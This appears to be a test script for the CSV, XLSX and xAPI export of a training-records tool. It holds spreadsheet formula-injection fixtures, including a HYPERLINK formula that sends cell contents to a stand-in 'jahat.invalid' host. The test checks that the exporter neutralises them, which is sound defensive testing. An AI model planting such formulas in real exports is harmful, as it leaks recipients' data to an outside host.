#!/usr/bin/env bash
# `sinau export`: CSV (RFC 4180, BOM, ';', OWASP guard), XLSX read back with openpyxl, xAPI shape.
source "$(dirname "$0")/records_common.inc"
DB=$WORK/a.db
make_db "$DB"

"$BIN" export --db "$DB" --format csv --out "$WORK/c.csv" --bom --sep ';' > "$WORK/out.txt"
grep -q "18 baris" "$WORK/out.txt" || fail "expected 3 learners x 6 modules: $(cat "$WORK/out.txt")"
test -f "$WORK/c.csv.meta.json" || fail "no sidecar"
$PY - "$WORK/c.csv" <<'PY'
import csv, sys
raw = open(sys.argv[1], 'rb').read()
assert raw.startswith(b'\xef\xbb\xbf'), 'no BOM'
assert b'\r\n' in raw
rows = list(csv.reader(raw[3:].decode('utf-8').splitlines(True), delimiter=';'))
hdr, data = rows[0], rows[1:]
assert len(data) == 18, len(data)
names = {r[1] for r in data}
assert "'=HYPERLINK(\"http://jahat.invalid/?d=\"&A1,\"Klik\")" in names, names
assert 'Siti "Sita"; Rahayu' in names, names
inst = {r[2] for r in data}
assert "'+Dinas Kominfo" in inst, inst
for r in data:
    assert len(r) == 13
    for cell in r:
        assert not cell[:1] in ('=', '+', '-', '@', '\t', '\r'), cell
# Dewi has not started 5 modules: they are listed as 'belum'.
dewi = [r for r in data if r[1] == 'Dewi Lestari']
assert len(dewi) == 6 and sum(r[5] == 'belum' for r in dewi) == 5
PY

"$BIN" export --db "$DB" --format csv --what responses --out "$WORK/r.csv" >/dev/null
$PY - "$WORK/r.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
assert len(rows) == 3, rows
answers = {r[9] for r in rows[1:]}
assert answers == {"'@SUM(1+1)", "'-2+3"}, answers
PY

"$BIN" export --db "$DB" --format xlsx --out "$WORK/a.xlsx" >/dev/null
$PY - "$WORK/a.xlsx" <<'PY'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
assert wb.sheetnames == ['Ringkasan', 'Penyelesaian', 'Jawaban'], wb.sheetnames
ws = wb['Penyelesaian']
rows = list(ws.iter_rows(values_only=True))
assert rows[0][0] == 'nip' and len(rows) == 19, len(rows)
cells = [c for r in ws.iter_rows() for c in r]
evil = [c for c in cells if isinstance(c.value, str) and 'HYPERLINK' in c.value]
assert evil and all(c.data_type == 's' for c in evil), [(c.value, c.data_type) for c in evil]
assert not any(c.data_type == 'f' for c in cells), 'a formula cell was written'
resp = list(wb['Jawaban'].iter_rows(values_only=True))
assert len(resp) == 3 and '@SUM(1+1)' in [r[9] for r in resp]
summary = [r for r in wb['Ringkasan'].iter_rows(values_only=True)]
flat = [v for r in summary for v in r if v is not None]
assert 'Filter' in flat and 'semua peserta' in flat, flat
assert 'BKD Provinsi Jawa Timur' in flat
PY

"$BIN" export --db "$DB" --format xapi --out "$WORK/x1.json" --agency-url https://bpsdm.example.go.id --base-iri https://bpsdm.example.go.id/xapi >/dev/null
"$BIN" export --db "$DB" --format xapi --out "$WORK/x2.json" --agency-url https://bpsdm.example.go.id --base-iri https://bpsdm.example.go.id/xapi >/dev/null
$PY - "$WORK/x1.json" "$WORK/x2.json" <<'PY'
import json, sys, re
a = json.load(open(sys.argv[1])); b = json.load(open(sys.argv[2]))
assert len(a) == 5, len(a)   # attempted, passed, 2 answered, completed
uuid = re.compile(r'^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$')
for s in a:
    assert uuid.match(s['id']), s['id']
    assert s['actor']['account'] == {'homePage': 'https://bpsdm.example.go.id', 'name': '198001012005011003'}
    assert s['verb']['id'].startswith('http://adlnet.gov/expapi/verbs/')
    assert s['timestamp'].endswith('Z')
assert sorted(s['id'] for s in a) == sorted(s['id'] for s in b), 'ids changed between exports'
PY

# Filters and bad input.
"$BIN" export --db "$DB" --format csv --out "$WORK/f.csv" --instansi "BKD Provinsi Jawa Timur" | grep -q "12 baris" || fail "instansi filter"
if "$BIN" export --db "$DB" --format csv --out "$WORK/g.csv" --since 2024-13-45 2>/dev/null; then fail "bad date accepted"; fi
if "$BIN" export --db "$DB" --format csv --out "$WORK/nope/g.csv" 2>/dev/null; then fail "missing folder accepted"; fi
test ! -e "$WORK/g.csv" || fail "half file written"
echo "records_export: ok"
